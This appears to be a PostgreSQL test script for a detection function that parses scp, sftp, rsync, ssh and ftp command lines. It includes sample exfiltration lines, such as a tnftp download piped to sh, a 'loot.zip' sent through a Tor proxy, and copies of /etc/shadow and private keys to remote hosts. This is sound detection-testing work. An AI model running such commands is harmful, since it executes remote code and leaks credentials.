-- Command lines of file transfers, in the forms of the manuals of OpenSSH 9 and 10, rsync 3.2 to 3.4, tnftp,
-- netkit-ftp, inetutils' ftp and vsftpd. Each row is one form.
SET search_path = transfer_detect, public;
\pset format unaligned
\pset null '(null)'
\pset tuples_only on
CREATE TABLE public.forms (number integer GENERATED ALWAYS AS IDENTITY, line text);

-- scp
INSERT INTO public.forms (line) VALUES
	('scp report.txt vault:'),
	('scp report.txt vault:inbox/'),
	('scp /srv/data/report-1.txt alice@vault.example.com:/srv/in/report-1.txt'),
	('/usr/bin/scp -q /home/bob/a.tar.gz bob@203.0.113.9:'),
	('scp -P 2222 dump.sql backup@db-2:/var/backups/'),
	('scp -P2222 dump.sql backup@db-2:/var/backups/'),
	('scp -rp /etc/nginx web-2:/etc/nginx'),
	('scp alice@vault:/etc/passwd /tmp/x'),
	('scp vault:a vault:b .'),
	('scp -3 alice@one:/srv/a bob@two:/srv/b'),
	('scp -R one:/srv/a two:/srv/b'),
	('scp scp://alice@vault:2200/inbox/a.txt /tmp/'),
	('scp a.txt scp://vault//etc/motd'),
	('scp a.txt scp://[2001:db8::7]:2022/x%20y'),
	('scp a.txt root@[2001:db8::9]:/root/'),
	('scp [::1]:/etc/hosts .'),
	('scp ./with:colon vault:'),
	('scp /srv/a:b vault:'),
	('scp -i /home/deploy/.ssh/id_ed25519 build-4711.tgz deploy@web-7:/opt/releases/4711/'),
	('scp -J bastion.example.com a.txt db-1:'),
	('scp -J ops@bastion:2222,ops@inner a.txt db-1:'),
	('scp -F /tmp/cfg a.txt alias:'),
	('scp -o ProxyCommand="nc -X 5 -x 127.0.0.1:9050 %h %p" loot.zip drop@198.51.100.7:'),
	('scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null a b:'),
	('scp -oPort=2022 -oUser=carol a.txt host:'),
	('scp -o "IdentityFile ~/.ssh/k2" a.txt host:'),
	('scp -O -l 8192 -c aes128-ctr big.iso mirror:/pub'),
	('scp -S /tmp/.x/ssh a.txt h:'),
	('scp -D /usr/lib/openssh/sftp-server a.txt h:b'),
	('scp -X nrequests=32 a.txt h:b'),
	('scp -T ''h:/srv/*.csv'' /data/in'),
	('scp -t /var/tmp/up'),
	('scp -v -f /etc/shadow'),
	('scp -r -d -t -- /srv/in'),
	('scp a.txt b.txt'),
	('scp a.txt h: -r'),
	('scp'),
	('scp --help'),
	('scp -z a h:'),
	('scp "my file.txt" ''h:/srv/my dir/'''),
	('scp my\ file.txt h:'),
	('scp it''s.txt h:'),
	('scp /tmp/tmp.Q3xkR91ZtB h:/srv/in/a.csv'),
	('scp /srv/dump-2026-11-27T03:41:07Z.sql.gz h:/b'),
	('scp a.txt h: && rm a.txt');

-- sftp
INSERT INTO public.forms (line) VALUES
	('sftp vault'),
	('sftp alice@vault'),
	('sftp alice@vault:/srv/out/file.bin'),
	('sftp vault:/srv/out/'),
	('sftp vault:a.txt /tmp/b.txt'),
	('sftp -P 2022 alice@vault'),
	('sftp -b /root/batch.txt -oBatchMode=yes partner@sftp.example.com'),
	('sftp -b - partner@sftp.example.com'),
	('sftp -R 64 -B 65536 vault'),
	('sftp -r -a -p vault:/srv/tree /data/tree'),
	('sftp -J jump -i key -F cfg alice@vault'),
	('sftp -D /usr/lib/openssh/sftp-server'),
	('sftp -s /usr/libexec/sftp-server vault'),
	('sftp -S /usr/local/bin/ssh vault'),
	('sftp sftp://alice@vault:2022/srv/x.txt'),
	('sftp sftp://vault'),
	('sftp [2001:db8::1]:/x'),
	('sftp alice@[2001:db8::1]'),
	('sftp -l 1000 -C -N -f -q -4 vault'),
	('sftp -X buffer=65536 -c aes256-gcm@openssh.com vault');

-- sftp-server
INSERT INTO public.forms (line) VALUES
	('/usr/lib/openssh/sftp-server'),
	('/usr/lib/openssh/sftp-server -f AUTHPRIV -l INFO'),
	('/usr/libexec/openssh/sftp-server -R -d /srv/pub'),
	('sftp-server -e -u 0027 -P remove,rename'),
	('sftp-server -p open,read,write'),
	('internal-sftp -l VERBOSE'),
	('sftp-server -Q requests'),
	('/usr/sbin/sftp-server stray');

-- rsync
INSERT INTO public.forms (line) VALUES
	('rsync -a /srv/www/ web-2:/srv/www/'),
	('rsync -avz --delete /home/ backup@nas.example.com:/backup/home'),
	('rsync -a web-2:/srv/www/ /srv/www'),
	('rsync web-2:/srv/'),
	('rsync -r a/ b/'),
	('rsync /srv/data'),
	('rsync -av nas::backup/etc/ /etc.bak/'),
	('rsync nas::'),
	('rsync rsync://nas.example.com/'),
	('rsync -a rsync://mirror@nas.example.com:8873/debian/ /srv/mirror/'),
	('rsync -a /srv/in/ rsync://nas/in/'),
	('rsync --port=8873 -a /srv/in nas::in'),
	('rsync -e ssh -a x h:y'),
	('rsync -e ''ssh -p 2222 -i /root/.ssh/backup -l backup'' -a /etc h:/b'),
	('rsync --rsh="ssh -J bastion -o StrictHostKeyChecking=no" -a /etc h:/b'),
	('rsync -e ''ssh -o ProxyCommand="nc -x localhost:9050 %h %p"'' -a /etc h:/b'),
	('rsync -ae ssh x h:y'),
	('rsync --files-from=/tmp/list.txt / h:/loot'),
	('rsync --files-from=:/srv/list h:/srv /data'),
	('rsync --rsync-path="sudo rsync" -a h:/etc/ /b/'),
	('rsync -a alice@h:a :b ::mod/c /data'),
	('rsync -a --link-dest=/backup/2026-11-26 /srv/ nas:/backup/2026-11-27/'),
	('rsync -a --backup --backup-dir=/srv/old/20261127 /srv/a nas:/srv/a'),
	('rsync --bwlimit=500 --timeout=60 --partial-dir=.rsync-partial -a big nas:'),
	('rsync -a --exclude=.git --include ''*.c'' src/ ci-7:build-8812/'),
	('rsync --remove-source-files -a /var/spool/out/ h:/in/'),
	('rsync --server --sender -vlogDtpre.iLsfxCIvu . /etc/'),
	('rsync --server -logDtpre.iLsfxCIvu --delete . /srv/backup/'),
	('rsync --server -s'),
	('rsync --server --daemon .'),
	('rsync --daemon'),
	('/usr/bin/rsync --daemon --no-detach --config=/tmp/.r.conf --port 8730'),
	('rsync --daemon --address=0.0.0.0 --dparam=pidfile=/tmp/p'),
	('rsync -a --no-perms --no-o --no-g src/ h:dst'),
	('rsync -n --list-only h:/srv/'),
	('rsync --password-file=/root/.rsyncpw -a /srv u@nas::mod'),
	('rsync -M--fake-super -a /srv nas:/srv'),
	('rsync --read-batch=/tmp/b1 /srv/x'),
	('rsync --only-write-batch=/tmp/b2 -a /srv/a /srv/b'),
	('rsync -a h1:/a h2:/b'),
	('rsync --version'),
	('rsync --frobnicate -a a h:b'),
	('rsync -a [2001:db8::5]:/srv/ /srv/'),
	('rsync -a bob@[2001:db8::5]::mod /srv/'),
	('rsync --copy-as=nobody --log-file=/var/log/rsync-20261127.log -a /srv h:/srv'),
	('rsync -4aHAX --numeric-ids --chown=www-data:www-data /srv/ h:/srv'),
	('rsync -a /srv/ h:/srv/.tmp.aZ81kQx2/'),
	('rsync -a -- -odd h:x'),
	('rsync -ahP --zc=zstd --zl=3 a h:b'),
	('rsync');

-- ssh
INSERT INTO public.forms (line) VALUES
	('ssh -x -oForwardAgent=no -oPermitLocalCommand=no -oClearAllForwardings=yes -l alice -s -- vault sftp'),
	('ssh -oForwardX11 no -oPermitLocalCommand no -oClearAllForwardings yes -p 2222 -l alice -s -- vault sftp'),
	('ssh vault -s sftp'),
	('ssh -l backup nas rsync --server -logDtpre.iLsfxCIvu . /backup/'),
	('ssh nas rsync --server --sender -vlogDtpre.iLsfxCIvu . /etc/ /srv/x'),
	('ssh -p 22022 bob@203.0.113.9 "rsync --server -e.Lsfx . /srv"'),
	('ssh nas sudo rsync --server --sender -re.iLsfxC . /root/'),
	('ssh -x -oPermitLocalCommand=no -- vault scp -v -t /srv/in'),
	('ssh vault ''scp -f "/srv/a b"'''),
	('ssh vault /usr/lib/openssh/sftp-server'),
	('ssh -J hop ssh://alice@vault:2022 scp -t .'),
	('ssh vault'),
	('ssh vault uptime'),
	('ssh vault rsync -a /a /b'),
	('ssh -s vault netconf'),
	('ssh -N -L 8080:localhost:80 vault');

-- ftp
INSERT INTO public.forms (line) VALUES
	('ftp'),
	('ftp ftp.example.com'),
	('ftp ftp.example.com 2121'),
	('ftp -n -i -v ftp.example.com'),
	('ftp -inv ftp.example.com'),
	('ftp -p -g -d ftp.partner.example'),
	('ftp -P 2121 ftp.example.com'),
	('tnftp alice@ftp.example.com'),
	('tnftp -a ftp://ftp.example.com/pub/file.tar.gz'),
	('tnftp -o /tmp/x ftp://alice:secret@ftp.example.com:2121/srv/x;type=i'),
	('tnftp -o - https://www.example.com/a.sh'),
	('tnftp -o ''|sh'' http://203.0.113.9:8080/a.sh'),
	('tnftp ftp.example.com:/pub/'),
	('tnftp ftp.example.com:pub/a ftp.example.com:pub/b'),
	('tnftp -u ftp://alice@ftp.example.com/in/ /srv/a.csv /srv/b.csv'),
	('tnftp -u ftp.example.com:/in/ loot.tgz'),
	('ftp -s 192.0.2.1 -4 ftp.example.com'),
	('ftp -s:script.txt ftp.example.com'),
	('tnftp -R -r 5 -q 30 -T get,100k -x 65536 -N /root/.netrc ftp.example.com'),
	('tnftp file:///etc/passwd'),
	('netkit-ftp -pinegvd ftp.example.com'),
	('netkit-ftp -q 30 ftp.example.com'),
	('inetutils-ftp --passive --no-prompt --netrc=/root/.netrc ftp.example.com'),
	('inetutils-ftp --prompt --verbose ftp.example.com 2121'),
	('inetutils-ftp --version'),
	('/usr/bin/pftp ftp.example.com'),
	('ftp --nonsense host'),
	('ftp 192.0.2.44 21');

-- vsftpd
INSERT INTO public.forms (line) VALUES
	('vsftpd'),
	('/usr/sbin/vsftpd /etc/vsftpd.conf'),
	('/usr/sbin/vsftpd -o listen=YES -oanonymous_enable=YES /tmp/.v.conf'),
	('vsftpd -v'),
	('vsftpd -obackground=NO -o local_root=/srv'),
	('vsftpd /etc/vsftpd.conf /etc/vsftpd-2.conf');

-- What is no transfer.
INSERT INTO public.forms (line) VALUES
	('cat /etc/passwd'),
	('curl -T a ftp://h/');

-- What is empty is left out.
SELECT f.line || E'\n' || '    ' || coalesce(concat_ws(' | ', t.utility || ': ' || t.mode || ', ' || t.direction,
		'local ' || (SELECT string_agg(p || ' (' || c || ')', ' ' ORDER BY n) FROM unnest(t.local_paths, t.local_classes) WITH ORDINALITY AS u(p, c, n)),
		'user ' || t.remote_user, 'host ' || t.remote_host, 'port ' || t.remote_port,
		'remote ' || nullif(array_to_string(t.remote_paths, ' '), ''), 'options ' || nullif(array_to_string(t.options, ', '), ''),
		'not understood ' || nullif(array_to_string(t.not_understood, ' '), '')) || E'\n    ' || t.template, 'none')
FROM public.forms AS f, transfer_command(f.line) AS t ORDER BY f.number;
SELECT count(*) >= 120 FROM public.forms;

-- Arguments give the same as a line that quotes them, and win over it.
SELECT t.local_paths, t.remote_paths, t.template FROM transfer_command('scp x y:', ARRAY['scp', 'my file.txt', 'h:/a b']) AS t;
SELECT count(*) FROM public.forms AS f
WHERE line !~ '[''"\\]| && ' AND transfer_command(line) IS DISTINCT FROM transfer_command(NULL, string_to_array(line, ' '));
-- Nulls in them do not count; without any, the line does.
SELECT (transfer_command('scp a b:', ARRAY['scp', NULL, 'c', 'd:'])).remote_host, (transfer_command('scp a b:', ARRAY[]::text[])).remote_host;
-- The program that runs decides.
SELECT (transfer_command('ls a b:', NULL, '/usr/bin/scp')).utility, (transfer_command('ftp h', NULL, '/usr/bin/tnftp')).utility,
	(transfer_command('scp a b:', NULL, '/tmp/.x')).utility, (transfer_command(NULL, NULL, '/usr/bin/sftp')).utility,
	transfer_command(NULL) IS NULL, transfer_command('') IS NULL, transfer_command('', NULL, '/bin/sh') IS NULL;

-- An operator of the shell and a quote may be arguments of the process, and arguments may be less than the line.
SELECT line, t.mode, t.remote_host, t.not_understood
FROM unnest(ARRAY['scp /etc/shadow ; 203.0.113.9:', 'scp -i ; f h:', 'scp /etc/shadow nas: ; 203.0.113.9:', 'scp f h:&& echo x', 'scp f h: 2>/dev/null', 'scp '' f 203.0.113.9:''']) AS line,
	transfer_command(line, NULL, '/usr/bin/scp') AS t;
SELECT args, t.mode, t.remote_host
FROM (VALUES ('{"scp f 203.0.113.9:"}'::text[]), ('{scp}'), ('{f,203.0.113.9:}'), ('{scp,f,h:}')) AS v(args), transfer_command('scp f 203.0.113.9:', args) AS t;

-- What ssh carries may stand behind other programs.
SELECT line, t.mode, t.remote_host
FROM unnest(ARRAY['ssh h env X=1 rsync --server . /x', 'ssh h nice -n 10 ionice -c3 scp -f /x', 'ssh h "cd x && exec sh -c ''scp -t y''"', 'ssh h /opt/my-rsync --server . x', 'ssh h sudo uptime']) AS line, transfer_command(line) AS t;

-- Hosts on the way, in a line that has its quotes and in one that has lost them; the program in place of ssh.
SELECT line, t.remote_host, t.other_hosts, t.helper, t.local_paths
FROM unnest(ARRAY['scp -J u@203.0.113.9,hop a nas:', 'rsync -e "ssh -J u@203.0.113.9" a nas:', 'rsync -e ssh -i /root/.ssh/id_backup -J u@203.0.113.9 /srv/ nas:', 'scp -o "ProxyCommand=nc 203.0.113.9 443" a nas:',
	'scp -o ProxyCommand=ssh -W %h:%p bastion f 203.0.113.9:', 'scp -S /tmp/ssh a nas:', 'scp -3 app-1:/etc/shadow nas:']) AS line, transfer_command(line) AS t;

-- Classes of paths.
SELECT p || ': ' || (transfer_command(NULL, ARRAY['scp', p, 'h:'])).local_classes[1]
FROM unnest(ARRAY['/etc/passwd', '/tmp/../etc/shadow', '//etc//./shadow', '/etc/shadow-', '/etc/shadowing', '/home/a/.ssh/id_rsa', '.ssh/config', '/home/a/x',
	'/root/x', '~/x', '~bob/x', '/tmp/x', '/tmp/.x/y', '/var/tmp/x', '/dev/shm/x', '/dev/sda', '/srv/x', 'x', './x', '../x', '../.x', '.', '/', '/usr/bin/id',
	'/var/log/auth.log', '/srv/tls/server.key', '/srv/tls/server.pem', 'keepass.kdbx', '/proc/1/environ', '/proc/1/maps', '/home/a/.config/x', '/var/www/.env', '.env.local',
	'/opt/app/key', '/tmpx/y', '/..', '']) AS u(p);

-- Templates: the same for two runs of a job.
SELECT a.template, a.template = b.template AS same
FROM (VALUES
	('scp /srv/dump-2026-11-26.sql h:', 'scp /srv/dump-2026-11-27.sql h:'),
	('scp /srv/dump_20261126_0341.sql h:', 'scp /srv/dump_20261127_0342.sql h:'),
	('scp /srv/2026/11/26/a h:', 'scp /srv/2026/11/27/a h:'),
	('scp a-1795163400.tgz h:', 'scp a-1795167000.tgz h:'),
	('scp /srv/r/6f1c2a9b-1b7e-4c1d-9a51-0c8a5d3b7e21.json h:', 'scp /srv/r/0c8a5d3b-9a51-4c1d-1b7e-6f1c2a9b7e21.json h:'),
	('scp build-9fceb02.tgz h:', 'scp build-4a202b3.tgz h:'),
	('scp /tmp/tmp.Q3xkR91ZtB h:', 'scp /tmp/tmp.ab8KKsl2mm h:'),
	('scp /tmp/tmpk3_x9ab2/x h:', 'scp /tmp/tmpk4_x8ab3/x h:'),
	('scp d41d8cd98f00b204e9800998ecf8427e h:', 'scp 0cc175b9c0f1b6a831c399e269772661 h:'),
	('rsync -a /srv nas:/b/daily.1', 'rsync -a /srv nas:/b/daily.2'),
	('sftp -b /tmp/batch.8812 h', 'sftp -b /tmp/batch.8813 h'),
	('rsync -e "ssh -i /tmp/key.8812" /a h:', 'rsync -e "ssh -i /tmp/key.8813" /a h:')) AS v(one, two),
	transfer_command(v.one) AS a, transfer_command(v.two) AS b;
-- ssh's HostName says where it goes, whatever the name in the command is.
SELECT line, t.remote_host, t.options, t.template
FROM unnest(ARRAY['scp -o HostName=203.0.113.9 a nas:', 'rsync -e "ssh -p 443 -oHostName=203.0.113.9 -oHostName=10.0.0.1" a u@nas:', 'sftp -o "HostName 203.0.113.9" nas',
	'ssh -oHostName=203.0.113.9 nas scp -t d', 'scp -o HostName=%h.corp.example a nas:', 'scp -o HostName= a nas:', 'scp -o HostName=h a b']) AS line, transfer_command(line) AS t;
-- But hosts, accounts and ports stay, and so do options and the names of formats.
SELECT (transfer_command(line)).template
FROM unnest(ARRAY['scp a web-1:', 'scp a 10.0.0.1:', 'scp a user2026@h1.example.com:b1', 'scp -P 2222 a h:', 'scp -J j1,j2 a h:', 'scp -o HostName=10.1.2.3 a h:',
	'rsync -a --port=8730 a h1::m1/x1', 'ftp h1 2121', 'tnftp ftp://u1@h1:2121/p1', 'tnftp -u ftp://u1@h1/p1 f1', 'ssh -l u1 h1 scp -t d1', 'ssh -s u1@h1 sftp',
	'scp -3 u1@h1:p1 u2@h2:p2', 'rsync -e "ssh -l u1 -J u2@j1:22" a h:', 'scp -l 8192 a1 h:', 'scp song1.mp3 id_ed25519.pub h:', 'rsync -a u1@h1:a1 :b2 .',
	'rsync -a h1:/a1 h2:/b2', 'scp -o "ProxyCommand ssh -W %h:%p u1@j1" a h:', 'scp -o ProxyJump=j1.example.com a h:', 'ftp -s 10.0.0.1 h1',
	'rsync --files-from=h2:/l1 h2:/a1 .', 'rsync --rsync-path="ssh h2 rsync" a1 h1:', 'scp h1:x1', 'vsftpd -o listen_address=10.0.0.5 /etc/v1.conf', 'tnftp h1:/a1 h2', 'rsync --copy-as=u1 a h:']) AS u(line);

-- Nothing raises an error, whatever the bytes.
SELECT count(*) FROM generate_series(1, 255) AS code, LATERAL transfer_command('scp ' || chr(code) || ' h' || chr(code) || ':' || chr(code) || ' -' || chr(code)) AS t;
SELECT count(*) FROM public.forms AS f, generate_series(0, length(f.line)) AS n, LATERAL transfer_command(left(f.line, n)) AS t;
SELECT length(t.template), cardinality(t.local_paths) FROM transfer_command('scp ' || repeat('a1 ', 100000) || 'h:') AS t;
SELECT length((transfer_command('rsync ' || repeat('-', 100000) || repeat('\', 99999) || '"')).template);
SELECT provolatile, proparallel FROM pg_proc WHERE proname = 'transfer_command';

-- A row is written by hand, and has the bytes that PostgreSQL gives it: with short and long values, empty lists, nulls and without any.
SELECT count(*) = count(*) FILTER (WHERE made *= written AND (made IS NOT NULL OR pg_column_size(made) = pg_column_size(written))) AS same,
	count(*) > 10000 AS many, count(*) FILTER (WHERE made IS NOT NULL) > 0 AS without_nulls
FROM (SELECT written, ROW((written).utility, (written).mode, (written).direction, (written).local_paths, (written).local_classes, (written).remote_user,
		(written).remote_host, (written).remote_port, (written).remote_paths, (written).other_hosts, (written).helper, (written).options, (written).template,
		(written).not_understood)::transfer_detect.transfer AS made
	FROM (SELECT transfer_command(f.line || o.options || repeat('x', n)) AS written
		FROM public.forms AS f, generate_series(0, 182, 7) AS n, unnest(ARRAY['', ' -P 22 -S /tmp/ssh a u@h:', ' ~/', ' -oUser=']) AS o(options) OFFSET 0) AS w OFFSET 0) AS m
WHERE written IS DISTINCT FROM NULL;

-- As fields of an event: the arguments count in their order, also if one comes twice.
BEGIN;
INSERT INTO transfer_detect.events (timestamp, host_name, process_executable, process_command_line, process_args)
VALUES ('2026-11-20 09:00Z', 'web-1', '/usr/bin/sftp', 'sftp -b /srv/a b user@203.0.113.9', ARRAY['sftp', '-b', '/srv/a b', 'user@203.0.113.9']),
	('2026-11-20 09:01Z', 'web-1', '/usr/bin/scp', 'scp -f /etc/ssl/private/site.key', ARRAY['scp', '-f', '/etc/ssl/private/site.key']),
	('2026-11-20 09:02Z', 'web-1', '/usr/bin/scp', 'scp b b nas:', ARRAY['scp', 'b', 'b', 'nas:']),
	('2026-11-20 09:03Z', 'web-1', '/usr/bin/scp', 'scp a b nas:', NULL);
SELECT transfer_detect.esql('FROM logs-endpoint.events.process-*
| SORT @timestamp
| KEEP transfer.mode, transfer.remote_host, transfer.local_paths, transfer.options, process.args');
ROLLBACK;
